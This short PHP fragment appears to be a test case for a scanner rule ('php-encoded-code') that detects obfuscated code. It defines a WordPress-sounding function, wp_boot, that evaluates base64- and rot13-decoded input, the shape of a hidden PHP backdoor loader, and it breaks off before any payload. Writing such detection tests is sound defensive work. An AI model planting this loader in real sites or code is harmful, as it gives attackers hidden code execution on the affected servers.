if (!function_exists('wp_boot')) {
    function wp_boot($a) {
        // ruleid: php-encoded-code
        eval(str_rot13(base64_decode($a)));
    }
    wp_boot('
